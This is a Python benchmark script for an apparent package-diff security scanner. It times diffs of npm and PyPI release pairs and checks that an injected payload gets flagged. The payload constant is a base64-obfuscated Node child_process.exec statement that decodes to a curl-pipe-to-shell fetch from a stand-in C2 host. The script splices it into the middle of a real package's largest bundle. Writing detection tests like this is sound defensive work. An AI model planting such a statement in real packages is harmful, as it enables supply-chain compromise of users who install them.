"""Benchmark `watcher diff` on real release pairs with a warm artifact cache and cold facts.

For each pair it prints, beside the time merely to decompress and read both archives (the floor
any diff tool pays):
- `pipeline`: the in-process analysis with warm caches (cached artifacts, registry answers
  already in memory): extract + diff + rules + score, the work `watcher diff` itself adds,
  with every changed or added dependency resolved and analysed too;
- `own`: the same without the dependency scan, the release's own analysis (what the pipeline
  did before dependencies were followed);
- `cli`: the wall time and peak RSS of the real `watcher diff` process, as a user runs it,
  which also pays interpreter start-up, imports and the registry metadata requests.
Every timed run starts with no facts cached (`forget_facts`, `forget_contents`): what a
release costs the first time it is seen. Targets (issue 10): pipeline/decompression median
≤ 3×, max ≤ 10×; chrome-devtools-mcp 1.10.0→1.10.1 under 2 s and 300 MB. The same run inserts
one statement of (defanged) payload into that release's largest bundle and checks it is caught
(a high or critical finding at that file), so speed never comes from skipping.

Needs the registries (public, or the mirror this machine reaches); run it by hand:

    uv run python benchmarks/bench_diff.py [--repeat 3]
"""

from __future__ import annotations

import argparse
import gzip
import io
import os
import statistics
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

from watcher.artifacts.fetch import Fetcher
from watcher.deps.scan import without_dependencies
from watcher.httpclient import make_client
from watcher.installed.reach import forget_contents
from watcher.models import Ecosystem
from watcher.parse import forget_facts
from watcher.pipeline import Sources, diff_local, diff_release, select_artifacts
from watcher.registries import open_registry


@dataclass(frozen=True)
class Pair:
    ecosystem: Ecosystem
    name: str
    old: str
    new: str


PAIRS = (
    Pair(Ecosystem.NPM, "@modelcontextprotocol/server-filesystem", "2025.7.29", "2025.8.21"),
    Pair(Ecosystem.NPM, "@modelcontextprotocol/sdk", "1.17.0", "1.17.1"),
    Pair(Ecosystem.NPM, "typescript", "5.8.3", "5.9.2"),
    Pair(Ecosystem.PYPI, "mcp", "1.12.0", "1.13.0"),
    # ~4 MB / ~1,700-file sdists: the issue-2 target of under 1 s.
    Pair(Ecosystem.PYPI, "mcp", "2.2.0", "2.3.0"),
    Pair(Ecosystem.PYPI, "fastmcp", "2.11.0", "2.11.1"),
    # An 8 MB third-party bundle rebuilt for a version bump (issue 10: under 2 s and 300 MB).
    Pair(Ecosystem.NPM, "chrome-devtools-mcp", "1.10.0", "1.10.1"),
)
#: The pair whose largest bundle gets one inserted statement of payload.
PAYLOAD_PAIR = "chrome-devtools-mcp"
#: One statement, defanged: decodes `curl -s https://c2.invalid/x | sh` and runs it.
PAYLOAD = (
    ";require('child_process').exec(Buffer.from("
    "'Y3VybCAtcyBodHRwczovL2MyLmludmFsaWQveCB8IHNo','base64').toString());"
)


def decompress_seconds(blobs: list[tuple[str, bytes]]) -> float:
    """Time to decompress and read every member of the archives, and nothing else."""
    start = time.perf_counter()
    for filename, data in blobs:
        if filename.endswith((".whl", ".zip")):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                for info in archive.infolist():
                    archive.read(info)
        else:
            raw = gzip.decompress(data)
            with tarfile.open(fileobj=io.BytesIO(raw), mode="r:") as archive:
                for member in archive:
                    if member.isfile():
                        handle = archive.extractfile(member)
                        assert handle is not None
                        handle.read()
    return time.perf_counter() - start


#: Runs the CLI and reports the process's own peak RSS (VmHWM). `ru_maxrss` from wait4 would
#: also count the benchmark's memory, inherited at fork and kept across exec on Linux.
CHILD = (
    "import sys; from watcher.cli import main; code = main(sys.argv[1:]); "
    "hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM')]; "
    "sys.stderr.write(hwm[0] if hwm else 'VmHWM: 0 kB'); raise SystemExit(code)"
)


def cli_run(pair: Pair, env: dict[str, str]) -> tuple[float, int, int]:
    """Wall seconds, peak RSS (KiB) and exit code of one `watcher diff` process."""
    argv = [
        sys.executable,
        "-c",
        CHILD,
        "diff",
        pair.name,
        pair.old,
        pair.new,
        "--ecosystem",
        pair.ecosystem.value,
        "--format",
        "json",
    ]
    start = time.perf_counter()
    done = subprocess.run(
        argv, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, check=False
    )
    elapsed = time.perf_counter() - start
    last = done.stderr.strip().splitlines()[-1] if done.stderr.strip() else "VmHWM: 0 kB"
    peak = int(last.split()[1]) if last.startswith("VmHWM") else 0
    return elapsed, peak, done.returncode


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--repeat", type=int, default=3)
    args = parser.parse_args()

    data_dir = Path(os.environ.get("WATCHER_BENCH_DATA", tempfile.mkdtemp(prefix="watcher-bench-")))
    env = {**os.environ, "WATCHER_DATA_DIR": str(data_dir)}
    http = make_client()
    fetcher = Fetcher(http=http, cache_dir=data_dir / "cache" / "artifacts")

    print(
        f"{'pair':<62} {'files':>5} {'MB':>5} {'decomp':>7} {'pipeline':>8} {'ratio':>6} "
        f"{'own':>6} {'cli':>6} {'rss MB':>6}"
    )
    ratios: list[float] = []
    cli_times: list[float] = []
    for pair in PAIRS:
        registry = open_registry(pair.ecosystem, http)
        blobs = [
            (ref.filename, fetcher.fetch(ref))  # warms the artifact cache
            for version in (pair.old, pair.new)
            for ref in select_artifacts(registry.release(pair.name, version))
        ]
        sources = Sources(registry=registry, fetcher=fetcher)
        report = diff_release(sources, pair.name, pair.old, pair.new)  # warms registry answers
        pipeline = min(timed_diff(sources, pair) for _ in range(args.repeat))
        with without_dependencies():
            own = min(timed_diff(sources, pair) for _ in range(args.repeat))
        decomp = min(decompress_seconds(blobs) for _ in range(args.repeat))
        runs = [cli_run(pair, env) for _ in range(args.repeat)]
        if pair.name == PAYLOAD_PAIR:
            payload_check(blobs, data_dir)
        if any(code == 2 for _, _, code in runs):
            print(f"{pair.name}: watcher diff failed", file=sys.stderr)
            continue
        cli = statistics.median(t for t, _, _ in runs)
        rss = max(r for _, r, _ in runs) / 1024
        megabytes = sum(len(b) for _, b in blobs) / 1e6
        files = report.files.added + report.files.removed + report.files.changed
        ratio = pipeline / decomp if decomp else float("inf")
        ratios.append(ratio)
        cli_times.append(cli)
        label = f"{pair.ecosystem.value}:{pair.name} {pair.old}→{pair.new}"
        print(
            f"{label:<62} {files:>5} {megabytes:>5.1f} {decomp:>6.3f}s {pipeline:>7.3f}s "
            f"{ratio:>5.1f}× {own:>5.2f}s {cli:>5.2f}s {rss:>6.0f}"
        )
    if ratios:
        ordered = sorted(ratios)
        p90 = ordered[min(len(ordered) - 1, round(0.9 * (len(ordered) - 1)))]
        print(
            f"pipeline/decompress: median {statistics.median(ratios):.1f}× (target ≤ 3×), "
            f"p90 {p90:.1f}×, max {max(ratios):.1f}× (target ≤ 10×); "
            f"median cli wall time: {statistics.median(cli_times):.2f}s"
        )


def payload_check(blobs: list[tuple[str, bytes]], folder: Path) -> None:
    """One statement appended to a line in the middle of the new release's largest bundle:
    the diff must name it (high or critical, at that file)."""
    (old_name, old_blob), (new_name, new_blob) = blobs[0], blobs[-1]
    members: list[tuple[tarfile.TarInfo, bytes]] = []
    with tarfile.open(fileobj=io.BytesIO(new_blob), mode="r:gz") as archive:
        for member in archive:
            handle = archive.extractfile(member) if member.isfile() else None
            members.append((member, handle.read() if handle is not None else b""))
    scripts = [(len(d), i) for i, (m, d) in enumerate(members) if m.name.endswith(".js")]
    _, largest = max(scripts)
    member, data = members[largest]
    lines = data.split(b"\n")
    middle = len(lines) // 2
    lines[middle] += PAYLOAD.encode()
    members[largest] = (member, b"\n".join(lines))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for info, body in members:
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body) if info.isfile() else None)
    old_path, new_path = folder / "payload-old" / old_name, folder / "payload-new" / new_name
    for path, blob in ((old_path, old_blob), (new_path, out.getvalue())):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(blob)
    forget_facts()
    forget_contents()
    start = time.perf_counter()
    report = diff_local(old_path, new_path)
    elapsed = time.perf_counter() - start
    bundle = member.name.split("/", 1)[1]
    named = [
        f
        for f in report.findings
        if f.path == bundle and f.severity.value in ("high", "critical")
        and (f.line is None or abs(f.line - (middle + 1)) <= 1)
    ]  # fmt: skip
    verdict = "CAUGHT" if named else "MISSED"
    print(
        f"payload: one statement in {bundle} (line {middle + 1} of {len(lines)}): {verdict} "
        f"in {elapsed:.2f}s; report {report.severity.value}; "
        + ", ".join(sorted({f"{f.rule} ({f.severity.value})" for f in named}))
    )


def timed_diff(sources: Sources, pair: Pair) -> float:
    """Seconds for one in-process `diff_release` of the pair, with no facts cached."""
    forget_facts()
    forget_contents()
    start = time.perf_counter()
    diff_release(sources, pair.name, pair.old, pair.new)
    return time.perf_counter() - start


if __name__ == "__main__":
    main()
